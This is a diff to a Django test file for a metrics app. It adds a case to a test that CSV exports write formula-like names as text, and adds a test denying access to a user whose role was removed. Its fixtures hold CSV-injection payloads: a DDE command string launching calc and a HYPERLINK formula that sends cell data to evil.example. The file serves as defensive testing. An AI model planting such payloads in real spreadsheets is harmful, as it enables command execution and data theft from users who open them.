@@ -359,7 +359,7 @@ def test_a_team_member_imports_the_values_of_the_metrics_they_own(member_client,
 def test_the_csv_export_writes_names_that_look_like_formulas_as_text(founder_client):
     process = ProcessFactory(name="+cmd|' /C calc'!A0")
     metric = weekly(name='=HYPERLINK("http://evil.example/?"&A1,"Click")', process=process)
-    for name in ("@SUM(1+1)", "-2+3", "\tTabbed"):
+    for name in ("@SUM(1+1)", "-2+3", "\tTabbed", "'+1 trials"):
         MetricValue.objects.create(
             metric=weekly(name=name, process=process), period=this_week(), value=-5
         )
@@ -371,8 +371,8 @@ def test_the_csv_export_writes_names_that_look_like_formulas_as_text(founder_cli
         assert row[5] == "-5.00"  # a number stays a number
     # And the file imports again as it was written.
     MetricValue.objects.all().delete()
-    assert "Stored 4 values" in upload(founder_client, exported).text
-    assert MetricValue.objects.count() == 4
+    assert "Stored 5 values" in upload(founder_client, exported).text
+    assert MetricValue.objects.count() == 5
 
 
 def test_a_decimal_comma_is_refused_rather_than_misread(member_client, member):
@@ -401,3 +401,13 @@ def test_a_bad_value_without_javascript_says_what_was_wrong(member_client, membe
 def test_a_csv_file_that_is_not_csv_is_reported_not_a_crash(founder_client):
     huge = "metric_id,period,value\n1,2026-W01," + "9" * 200_000 + "\n"
     assert "not valid CSV" in upload(founder_client, huge).content.decode()
+
+
+def test_a_person_whose_role_was_taken_away_no_longer_records_what_they_own(outsider, client):
+    metric = weekly(name="Videos published", owner=outsider)
+    client.force_login(outsider)
+    week = code(Cadence.WEEKLY, this_week())
+    assert client.get(reverse("metrics:import")).status_code == 403
+    assert upload(client, f"metric_id,period,value\n{metric.pk},{week},4\n").status_code == 403
+    assert record(client, metric, "4").status_code == 403
+    assert not MetricValue.objects.exists()
